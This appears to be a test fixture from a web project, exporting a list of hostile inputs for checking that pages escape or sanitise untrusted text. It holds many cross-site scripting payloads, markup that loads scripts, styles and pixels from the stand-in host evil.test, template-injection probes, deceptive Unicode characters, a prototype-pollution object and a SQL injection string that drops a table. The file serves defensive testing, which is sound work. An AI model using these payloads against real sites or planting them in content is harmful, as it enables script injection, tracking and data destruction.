const EVIL = "https://evil.test";

/** Opens a dialog if the text runs as code. */
const RUN = "alert('ran')";

/** Each line tries to run code, load something, or change how a page looks. */
export const HOSTILE = [
  // Elements that run code or load something.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${EVIL}/x.js"></sCrIpT>`,
  `<script/src=${EVIL}/y.js>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>click</text></a></svg>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${EVIL}/z.swf">`,
  `<a href="javascript:${RUN}" autofocus>click</a>`,
  `<a href="jAvAsCrIpT&colon;${RUN}">click</a>`,
  `<form action="${EVIL}"><button formaction="javascript:${RUN}">Approve</button></form>`,
  `<link rel=stylesheet href="${EVIL}/a.css"><style>@import "${EVIL}/b.css";*{background:url(${EVIL}/c)}</style>`,
  `<div style="background:url(${EVIL}/d);width:expression(${RUN})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  // Text that closes the element, attribute, or string that contains it.
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style></script><img src=x onerror=${RUN}>`,
  `--></noscript></template><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus='${RUN}`,
  `\`\${${RUN}}\``,
  `</p></div></body></html><script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  // Malformed tags, and markup that becomes dangerous only when it's serialized and parsed again.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<<img src=x onerror=${RUN}>//`,
  `<img src=x onerror\u3000=${RUN}>`,
  // Entities, templates, and Markdown.
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt; &#60;img src=x onerror=${RUN}&#62; &nbsp;&copy;`,
  `{{ inputs }} {{7*7}} {{ constructor.constructor('${RUN}')() }} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  `[click](javascript:${RUN}) ![x](${EVIL}/m.png) <javascript:${RUN}> **bold** \`code\``,
  `data:text/html,<script>${RUN}</script> javascript:${RUN}`,
  // Invisible, control, and right-to-left characters, URL escapes, prototype pollution, and SQL injection.
  `safe \u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \ufeffmark`,
  `control \u0001\u0008\u001b[31m red \u007f`,
  `שלום <script>${RUN}</script> مرحبا`,
  `%3Cscript%3E${RUN}%3C/script%3E %00 \\0`,
  `{"__proto__":{"ran":true},"constructor":{"prototype":{"ran":true}}}`,
  `'; DROP TABLE "Review"; --`,
].join("\n");

export const HOSTILE_NAME = `</title></h1><script>${RUN}</script><img src=x onerror=${RUN}>"' {{ input }} &lt;b&gt; [x](javascript:${RUN})`;
